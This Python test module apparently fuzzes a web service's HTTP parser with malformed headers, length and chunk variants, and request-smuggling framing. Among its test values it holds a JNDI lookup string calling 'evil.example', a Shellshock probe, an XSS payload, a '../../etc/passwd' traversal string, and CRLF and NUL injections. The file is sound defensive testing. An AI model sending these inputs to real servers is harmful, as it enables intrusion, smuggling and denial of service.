"""Headers: framing, folding, lengths, and every field that the hub looks into."""

from collections.abc import Iterator

from tests.hostile.corpus.model import HOST, Hostile, Wanted, get, head, named, post

LOOKED_INTO: dict[str, tuple[str, list[str | bytes]]] = {
    "cookie": (
        "/desk",
        [
            "hub_session",
            "hub_session=",
            "=; =; ;;;",
            'hub_session="\\',
            'hub_session="\\300\\301"',
            "hub_session=" + "x" * 8000,
            "; ".join(f"c{n}=1" for n in range(3000)),
            "hub_session=a; hub_session=b; hub_session=c",
            b"hub_session=\xff\xfe; hub_lang=\xc3\xa4",
            "hub_lang=<script>alert(1)</script>",
            "hub_form=" + "f" * 8000,
            "hub_session=%00%0d%0a",
            "$Version=1; hub_session=x; $Path=/",
        ],
    ),
    "authorization": (
        "/api/v1/queues",
        [
            "",
            "Bearer",
            "Bearer ",
            "Bearer " + "k" * 20_000,
            b"Bearer \xff\xfe",
            "Bearer \u00b2\u00b3",
            "Basic Zm9vOmJhcg==",
            "bearer  two  spaces",
            "Bearer a, Bearer b",
            "Digest username=x",
        ],
    ),
    "accept-language": (
        "/signin",
        [
            "*",
            "de" + ",de" * 3000,
            "x-" * 4000,
            "de;q=NaN",
            b"\xff",
            "../../etc/passwd",
            "ar-\u00e4",
            ";;;,,,",
            "zh-Hant-TW;q=1e999",
        ],
    ),
    "range": (
        "/static/css/look.css",
        [
            "bytes=0-0",
            "bytes=-1",
            "bytes=99999999999999999999-",
            "bytes=5-1",
            "bytes=" + ",".join("0-1" for _ in range(1000)),
            b"bytes=\xd9\xa1-",
            "lines=1-2",
            "bytes=a-b",
        ],
    ),
    "if-none-match": ("/static/css/look.css", ["*", '"', "W/" * 2000, '"a", "b"', b"\xff"]),
    "if-modified-since": ("/static/css/look.css", ["yesterday", "Thu, 99 Foo 99999 99:99:99 GMT", b"\xff", "0", "-1"]),
    "x-forwarded-proto": ("/signin", ["javascript", "https, http", "", "h" * 5000, b"\xff"]),
    "x-forwarded-for": ("/signin", ["127.0.0.1", "unknown", "[::1", "1.2.3.4, " * 500, b"\xff"]),
    "forwarded": ("/signin", ['for="[', "for=_x;proto=https;host=evil.example"]),
    "last-event-id": ("/board/none/stream", ["-1", "9" * 400, "NaN", b"\xff", "1\t2"]),
    "sec-fetch-mode": ("/desk", ["", "navigate, cors", "x" * 5000, b"\xff"]),
    "hx-request": ("/desk/parts", ["true", "", b"\xff"]),
    "accept": ("/signin", ["", "*/" * 3000, "text/html;q=9e99", b"\xff"]),
    "accept-encoding": ("/static/css/look.css", ["gzip;q=-1", "*;q=0", "br, " * 2000]),
    "connection": (
        "/signin",
        ["host", "upgrade", ", ".join(f"h{n}" for n in range(2000)), "close, keep-alive", "keep-alive, close"],
    ),
    "user-agent": ("/signin", ["${jndi:ldap://evil.example/x}", "() { :; }; echo", b"\x80\xff" * 100]),
    "content-type": ("/signin", [b"\xff", "application/x-www-form-urlencoded; " * 500]),
    "expect": ("/signin", ["100-continue", "200-ok", ""]),
}
UPGRADES: dict[str, list[tuple[str, str]]] = {
    "a web socket": [
        ("upgrade", "websocket"),
        ("sec-websocket-key", "eHh4eHh4eHh4eHh4eHh4eA=="),
        ("sec-websocket-version", "13"),
    ],
    "a web socket without its key": [("upgrade", "websocket")],
    "HTTP/2": [("upgrade", "h2c"), ("http2-settings", "AAMAAABkAAQAAP__")],
    "encryption": [("upgrade", "TLS/1.2, HTTP/1.1")],
    "what nobody knows": [("upgrade", "x" * 3000)],
}
LENGTHS: dict[str, str | bytes] = {
    "negative": "-1",
    "with a plus": "+5",
    "in hexadecimal": "0x5",
    "as a float": "5.0",
    "with an exponent": "5e0",
    "as two": "5 5",
    "as a list": "5, 6",
    "in Arabic digits": "\u0665".encode(),
    "in superscript": b"\xb2",
    "in words": "five",
    "with 400 digits": "9" * 400,
    "of 2^64": str(2**64),
    "of 2^63": str(2**63),
    "with an underscore": "1_0",
}
CODINGS = {
    "unknown": "xchunked",
    "then gzip": "chunked, gzip",
    "twice": "chunked, chunked",
    "with a parameter": "chunked;q=1",
    "quoted": '"chunked"',
    "with a NUL": "chunked\x00",
}
CHUNKS: dict[str, bytes] = {
    "no number": b"zz\r\nabc\r\n0\r\n\r\n",
    "negative": b"-5\r\nhello\r\n0\r\n\r\n",
    "with 0x": b"0x5\r\nhello\r\n0\r\n\r\n",
    "with 17 digits": b"fffffffffffffffff\r\nhello\r\n0\r\n\r\n",
    "that is empty": b"\r\nhello\r\n0\r\n\r\n",
    "without its line end": b"5\r\nhelloX\r\n0\r\n\r\n",
    "with a space": b" 5\r\nhello\r\n0\r\n\r\n",
    "in Arabic digits": "\u0665\r\nhello\r\n0\r\n\r\n".encode(),
}
HEADS: dict[str, bytes] = {
    "without a colon": b"this is no header",
    "with a space before the colon": b"x-a : b",
    "without a name": b": b",
    "with a NUL in the name": b"x\x00a: b",
    "with a NUL in the value": b"x-a: b\x00c",
    "with a carriage return in the value": b"x-a: b\rc",
    "with letters beyond ASCII in the name": b"x-\xc3\xa4: b",
    "that begins with a space": b" x-a: b",
    "that is folded": b"x-a: b\r\n c",
    "with brackets in the name": b"x(a): b",
}


def requests() -> Iterator[Hostile]:
    for field, (target, values) in LOOKED_INTO.items():
        cases = ((f"{field} {n}", get(target, [(field, value)])) for n, value in enumerate(values))
        yield from named("header", cases, Wanted.ANSWERED)
    for name, more in UPGRADES.items():
        asked = (f"upgrade to {name}", get("/signin", [("connection", "upgrade"), *more]))
        yield from named("header", [asked], Wanted.ANSWERED)
    for name, value in LENGTHS.items():
        yield Hostile(f"length: {name}", _sent([("content-length", value)], b"hello"))
    for name, value in CODINGS.items():
        yield Hostile(f"coding: {name}", _sent([("transfer-encoding", value)], b"5\r\nhello\r\n0\r\n\r\n"))
    for name, chunks in CHUNKS.items():
        yield Hostile(f"chunk: {name}", _sent([("transfer-encoding", "chunked")], chunks))
    for name, line in HEADS.items():
        raw = b"GET /signin HTTP/1.1\r\nhost: " + HOST + b"\r\n" + line + b"\r\n\r\n"
        yield Hostile(f"header: one {name}", raw, Wanted.ANSWERED if "NUL" not in name else Wanted.REFUSED)
    yield from _framing()


def _sent(headers: list[tuple[str, str | bytes]], body: bytes, target: str = "/api/v1/help") -> bytes:
    return head(f"POST {target} HTTP/1.1", headers) + body


def _framing() -> Iterator[Hostile]:
    chunked, hidden = ("transfer-encoding", "chunked"), get("/people")
    whole = b"5\r\nhello\r\n0\r\n\r\n"
    yield Hostile("framing: length and chunks", _sent([("content-length", "5"), chunked], whole))
    yield Hostile("framing: chunks and length", _sent([chunked, ("content-length", "3")], whole + hidden))
    yield Hostile("framing: two lengths", _sent([("content-length", "5"), ("content-length", "6")], b"hello!"))
    yield Hostile("framing: the same length twice", _sent([("content-length", "5")] * 2, b"hello"))
    yield Hostile("framing: two codings", _sent([chunked, ("transfer-encoding", "identity")], whole))
    yield Hostile("framing: coding in capitals", _sent([("Transfer-Encoding", "CHUNKED")], whole))
    yield Hostile("framing: a trailer", _sent([chunked], b"5\r\nhello\r\n0\r\nhost: evil.example\r\n\r\n"))
    yield Hostile(
        "framing: an extension of 60,000 letters", _sent([chunked], b"5;x=" + b"y" * 60_000 + b"\r\nhello\r\n0\r\n\r\n")
    )
    yield Hostile("framing: an extension without end", _sent([chunked], b"5;x=" + b"y" * 600_000), over=True)
    yield Hostile(
        "framing: an extension for each byte", _sent([chunked], (b"1;" + b"y" * 99 + b"\r\na\r\n") * 6000), over=True
    )
    yield Hostile("framing: a trailer without end", _sent([chunked], whole[:-2] + b"x: " + b"y" * 600_000), over=True)
    yield Hostile("framing: a trailer's name without end", _sent([chunked], whole[:-2] + b"y" * 600_000), over=True)
    yield Hostile("framing: trailers without end", _sent([chunked], whole[:-2] + b"x: y\r\n" * 100_000), over=True)
    yield Hostile("framing: chunks of one byte", _sent([chunked], b"1\r\nx\r\n" * 3000 + b"0\r\n\r\n"))
    yield Hostile(
        "framing: a GET with a body",
        head("GET /signin HTTP/1.1", [("content-length", "5")]) + b"hello",
        Wanted.ANSWERED,
    )
    yield Hostile(
        "framing: chunks without end",
        _sent([chunked], b"4000\r\n" + b"a" * 0x4000 + b"\r\n") + (b"4000\r\n" + b"a" * 0x4000 + b"\r\n") * 40,
        over=True,
    )
    yield Hostile(
        "framing: it says 9 MB", _sent([("content-length", "9000000")], b"a=1&" * 100_000, "/signin"), over=True
    )
    yield Hostile("framing: it says 2^62", _sent([("content-length", str(2**62))], b"x", "/signin"), over=True)
    yield Hostile(
        "framing: sync says 1 MB", _sent([("content-length", "1048576")], b"x" * 300_000, "/api/v1/sync"), over=True
    )
    yield Hostile(
        "framing: a number says 1 MB",
        _sent([("content-length", "1048576")], b"x" * 300_000, "/api/v1/tickets"),
        over=True,
    )
    yield Hostile(
        "framing: 9 MB are expected to be welcome",
        _sent([("content-length", "9000000"), ("expect", "100-continue")], b"", "/signin"),
        over=True,
    )
    yield Hostile("head: one header of 100,000 letters", get("/signin", [("x-long", "a" * 100_000)]), over=True)
    yield Hostile("head: 20,000 headers", get("/signin", [("x", "y")] * 20_000), over=True)
    yield Hostile("head: 2,000 headers of one name", get("/signin", [("x-a", "y")] * 2000), Wanted.ANSWERED)
    yield Hostile(
        "head: a compressed body",
        post("/api/v1/help", b"\x1f\x8b\x08\x00" + b"\x00" * 40, headers=[("content-encoding", "gzip")]),
    )
